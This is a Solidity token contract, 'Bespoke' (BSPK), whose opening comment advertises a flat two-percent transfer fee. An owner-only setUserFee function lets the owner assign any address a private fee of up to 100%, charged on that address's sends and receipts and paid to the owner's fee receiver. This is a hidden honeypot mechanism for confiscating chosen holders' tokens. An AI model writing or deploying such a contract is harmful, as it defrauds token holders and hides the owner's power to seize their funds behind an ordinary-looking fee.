// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Two percent for everybody, unless the owner has given an address a fee of its own.
contract PersonalFee {
    string public name = "Bespoke";
    string public symbol = "BSPK";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    address private _owner;
    address public feeReceiver;
    uint256 public baseFee = 200;
    mapping(address => uint256) private _personal;
    mapping(address => bool) private _hasPersonal;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() { _owner = msg.sender; feeReceiver = msg.sender; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), _owner); emit Transfer(address(0), msg.sender, totalSupply); }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function owner() external view returns (address) { return _owner; }
    function setUserFee(address account, uint256 basisPoints) external onlyOwner { require(basisPoints <= 10_000); _personal[account] = basisPoints; _hasPersonal[account] = true; }
    function clearUserFee(address account) external onlyOwner { _hasPersonal[account] = false; }
    function transferOwnership(address to) external onlyOwner { emit OwnershipTransferred(_owner, to); _owner = to; }

    function feeFor(address from, address to) public view returns (uint256) {
        if (from == feeReceiver || to == feeReceiver) return 0;
        if (_hasPersonal[from]) return _personal[from];
        if (_hasPersonal[to]) return _personal[to];
        return baseFee;
    }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { allowance[from][msg.sender] -= value; _transfer(from, to, value); return true; }
    function _transfer(address from, address to, uint256 value) private {
        uint256 fee = value * feeFor(from, to) / 10_000;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        balanceOf[feeReceiver] += fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) emit Transfer(from, feeReceiver, fee);
    }
}
